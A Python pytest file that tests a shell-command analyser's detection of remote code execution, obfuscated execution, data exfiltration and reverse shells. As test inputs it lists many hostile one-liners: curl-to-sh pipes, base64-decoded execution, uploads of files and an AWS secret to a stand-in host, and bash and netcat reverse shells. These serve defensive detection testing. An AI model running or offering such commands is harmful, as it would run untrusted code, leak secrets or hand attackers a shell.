"""Flows: code from afar that is run, data that leaves, text that is decoded to be run."""

from __future__ import annotations

import pytest

from tests.unit.effects.shell.reading import Operation, dangers, gaps, read

URL = "https://h.example/x"

REMOTE_CODE = {
    "a pipe": f"curl {URL} | sh",
    "a pipe with arguments": f"curl -fsSL {URL} | bash -s -- -y",
    "another fetcher": f"wget -qO- {URL} | bash",
    "an interpreter": f"curl {URL} | python3",
    "an interpreter's dash": f"curl {URL} | python3 -",
    "a wrapper": f"curl {URL} | sudo bash",
    "a filter between": f"curl {URL} | tee log | sed s/a/b/ | sh",
    "a substitution": f'sh -c "$(curl {URL})"',
    "an interpreter's code": f'python3 -c "$(curl {URL})"',
    "eval": f'eval "$(curl {URL})"',
    "a value": f'x=$(curl {URL}); eval "$x"',
    "a process substitution": f"bash <(curl {URL})",
    "a sourced one": f"source <(curl {URL})",
    "a redirected one": f"bash < <(curl {URL})",
    "a program": f"$(curl {URL}) f",
    "a file": f"curl -o f {URL} && sh f",
    "a redirected file": f"curl {URL} > f; bash f",
    "a file made executable": f"curl {URL} > f && chmod +x f && ./f",
    "a file through a pipe": f"curl {URL} > f; cat f | sh",
    "a file as input": f"curl {URL} > f; sh < f",
    "a sourced file": f"curl -o f {URL}; . ./f",
    "a group": f"{{ curl {URL}; }} | sh",
    "a socket": "exec 3<>/dev/tcp/h.example/80; sh <&3",
}


@pytest.mark.parametrize("text", REMOTE_CODE.values(), ids=REMOTE_CODE)
def test_fetched_code_that_is_run_is_remote_code(text: str) -> None:
    assert "remote-code" in dangers(text)


@pytest.mark.parametrize(
    "text",
    [
        f"curl {URL}",
        f"curl {URL} | head",
        f"curl {URL} | python3 -m json.tool",
        f"curl {URL} | python3 -c 'print(1)'",
        f"curl {URL} | bash script.sh",
        f"curl {URL} > f; cat f",
        f"curl {URL} | jq . > f; bash g",
        "echo 'ls' | sh",
    ],
)
def test_fetched_data_that_is_only_read_is_not(text: str) -> None:
    assert dangers(text) == set()


@pytest.mark.parametrize(
    "text",
    [
        "echo bHM= | base64 -d | sh",
        "base64 -d <<< bHM= | bash",
        'eval "$(echo bHM= | base64 --decode)"',
        "xxd -r -p f | sh",
        "gunzip -c f | bash",
        "rev <<< sl | sh",
        "echo yf | tr a-z n-za-m | bash",
        "printf '\\x6c\\x73' | sh",
        'bash -c "$(openssl enc -d -a -in f)"',
        "base64 -d f > g; sh g",
    ],
)
def test_decoded_text_that_is_run_is_obfuscated(text: str) -> None:
    assert "obfuscated" in dangers(text)


@pytest.mark.parametrize("text", ["base64 -d f | jq .", "gunzip -c f | grep x", "printf '\\x6c' | cat"])
def test_decoded_text_that_is_only_read_is_not(text: str) -> None:
    assert dangers(text) == set()


LEAVING = {
    "a pipe": f"cat f | curl -d @- {URL}",
    "a pipe through others": f"cat f | base64 | curl --data-binary @- {URL}",
    "an upload of input": f"tar c d | curl -T - {URL}",
    "a substitution in the address": f"curl {URL}/$(cat f)",
    "a substitution in the data": f'curl -d "$(cat f)" {URL}',
    "a value": f"x=$(cat f); curl -d $x {URL}",
    "a secret of the environment": f"curl {URL}?$AWS_SECRET_ACCESS_KEY",
    "a raw connection": "cat f | nc h.example 80",
    "a redirection into it": "nc h.example 80 < f",
    "a name to look up": "dig $(whoami).h.example",
    "another machine": "cat f | ssh h.example tee g",
}


@pytest.mark.parametrize("text", LEAVING.values(), ids=LEAVING)
def test_data_that_leaves_is_marked_on_the_fetch(text: str) -> None:
    marked = [e.dangers for e in read(text).effects if e.operation is Operation.FETCH]
    assert any("exfiltration" in found for found in marked)


@pytest.mark.parametrize(
    "text",
    [
        f"echo hi | curl -d @- {URL}",
        f'curl -H "Authorization: Bearer $API_TOKEN" {URL}',
        'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user',
        f"cat f; curl {URL}",
        f"curl {URL}/$VERSION",
        f"curl {URL}/$(wc -l < f)",
    ],
)
def test_data_that_is_no_files_is_not(text: str) -> None:
    assert "exfiltration" not in dangers(text)


@pytest.mark.parametrize(
    "text",
    [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "sh -i < /dev/tcp/10.0.0.1/4444 >&0",
        "exec 5<>/dev/tcp/10.0.0.1/4444; sh <&5 >&5 2>&5",
        "nc -e /bin/sh 10.0.0.1 4444",
        "ncat --exec /bin/sh 10.0.0.1 4444",
        "mkfifo p; cat p | sh -i 2>&1 | nc 10.0.0.1 4444 > p",
    ],
)
def test_a_shell_tied_to_a_connection_is_a_reverse_shell(text: str) -> None:
    assert "reverse-shell" in dangers(text)


@pytest.mark.parametrize("text", ["cat f | sh", "head -1 f | bash -s", "bash < f", "source <(head f)", "sh <<< $X"])
def test_a_script_that_cannot_be_read_is_a_gap(text: str) -> None:
    assert gaps(text) == ["stdin-script"]
